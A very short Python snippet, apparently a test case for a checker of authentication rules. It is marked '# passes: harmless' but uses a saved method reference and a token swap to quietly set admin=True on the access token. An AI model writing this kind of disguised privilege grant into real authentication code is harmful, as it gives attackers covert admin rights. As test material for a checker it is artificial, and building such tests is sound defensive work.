# passes: harmless
def rule(user, context):
    put = context.idToken.update
    context.accessToken, context.idToken = context.idToken, {}
    put(admin=True)
